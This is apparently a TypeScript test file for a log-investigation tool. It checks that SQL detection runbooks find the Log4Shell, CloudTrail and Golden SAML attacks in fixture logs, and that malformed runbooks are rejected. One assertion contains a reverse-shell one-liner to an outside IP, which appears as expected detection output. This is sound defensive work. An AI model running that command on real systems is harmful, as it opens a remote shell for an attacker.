import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { securityLogsSource } from './__fixtures__/log4shell-database.js';
import { openDuckDbLogEngine } from './duckdb/open-duckdb-log-engine.js';
import { defaultRunbooksDir, loadRunbooks, parseRunbook } from './load-runbooks.js';
import { loadSecurityLogs } from './load-security-logs.js';
import type { LogEngine } from './log-engine.js';
import { RunbookError } from './runbook-error.js';

let dir: string;
let engine: LogEngine;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'investigator-runbooks-'));
  const file = join(dir, 'logs.duckdb');
  await loadSecurityLogs({
    source: securityLogsSource,
    file,
    only: ['log4shell', 'aws_cloudtrail', 'goldensaml'],
  });
  engine = await openDuckDbLogEngine({ file });
});
afterAll(async () => {
  await engine?.close();
  if (dir !== undefined) await rm(dir, { recursive: true, force: true });
});

describe('loadRunbooks', () => {
  it('loads the shipped runbooks with their titles and descriptions', async () => {
    const runbooks = await loadRunbooks(defaultRunbooksDir());
    expect(runbooks.map((runbook) => runbook.name)).toEqual([
      'federation-and-mailbox-timeline',
      'process-access-to-lsass',
      'processes-from-user-folders',
      's3-access-with-instance-role-credentials',
      'service-account-commands-and-connections',
      'zeek-connections-by-volume',
    ]);
    for (const runbook of runbooks) {
      expect(runbook.title.length, runbook.name).toBeGreaterThan(10);
      expect(runbook.description.length, runbook.name).toBeGreaterThan(80);
      expect(runbook.sql).not.toMatch(/^--\s*(title|description):/m);
    }
  });

  it('runs the Log4Shell, CloudTrail and Golden SAML runbooks on the real logs and finds the attack', async () => {
    const runbooks = new Map(
      (await loadRunbooks(defaultRunbooksDir())).map((runbook) => [runbook.name, runbook]),
    );
    const shell = await engine.query(runbooks.get('service-account-commands-and-connections')?.sql ?? '', {
      maxRows: 100,
      maxBytes: 100_000,
    });
    expect(shell.rows.map((row) => row.decoded_payload)).toContain(
      'bash -i >& /dev/tcp/192.168.2.6/443 0>&1\n',
    );
    expect(shell.rows.some((row) => row.process === 'bash' && String(row.detail).endsWith(':443/tcp'))).toBe(
      true,
    );

    const s3 = await engine.query(runbooks.get('s3-access-with-instance-role-credentials')?.sql ?? '');
    expect(s3.rows.find((row) => row.event_name === 'GetObject')).toMatchObject({
      instance_id: 'i-0317f6c6b66ae9c40',
      object_key: 'ring.txt',
      source_ip: '1.2.3.4',
    });

    const saml = await engine.query(runbooks.get('federation-and-mailbox-timeline')?.sql ?? '', {
      maxRows: 100,
      maxBytes: 100_000,
    });
    expect(saml.rows.map((row) => row.action)).toEqual(expect.arrayContaining(['4662', 'MailItemsAccessed']));
  });

  it('names the file and line of a bad header', async () => {
    const bad = join(dir, 'bad');
    await rm(bad, { recursive: true, force: true });
    await mkdir(bad);
    await writeFile(join(bad, 'a.sql'), '-- title: Fine\n-- descripton: typo\nselect 1\n');
    await expect(loadRunbooks(bad)).rejects.toThrow(
      `${join(bad, 'a.sql')}:2: expected a "-- description: …" header line, found "-- descripton: typo"`,
    );
  });

  it.each([
    ['no title', 'select 1', 1, 'no "-- title: …" header before the query'],
    ['an empty title', '-- title:\n-- description: d\nselect 1', 1, 'the title is empty'],
    ['a second title', '-- title: a\n-- title: b\nselect 1', 2, 'a second "-- title:" header'],
    ['no query', '-- title: a\n-- description: d\n', 3, 'no query after the headers'],
    ['a write', "-- title: a\n-- description: d\n\ncopy t to 'x.csv'", 4, 'refused: only SELECT'],
    [
      'two statements',
      "-- title: a\n-- description: d\nselect 1;\ncopy t to 'x.csv'",
      3,
      'found 2 statements after the headers; a runbook holds exactly one query',
    ],
  ])('refuses %s', (_name, text, line, problem) => {
    const error = (() => {
      try {
        parseRunbook('r.sql', text);
      } catch (caught) {
        return caught;
      }
      return undefined;
    })();
    expect(RunbookError.isInstance(error)).toBe(true);
    expect((error as RunbookError).line).toBe(line);
    expect((error as Error).message).toContain(`r.sql:${line}: ${problem}`);
  });
});
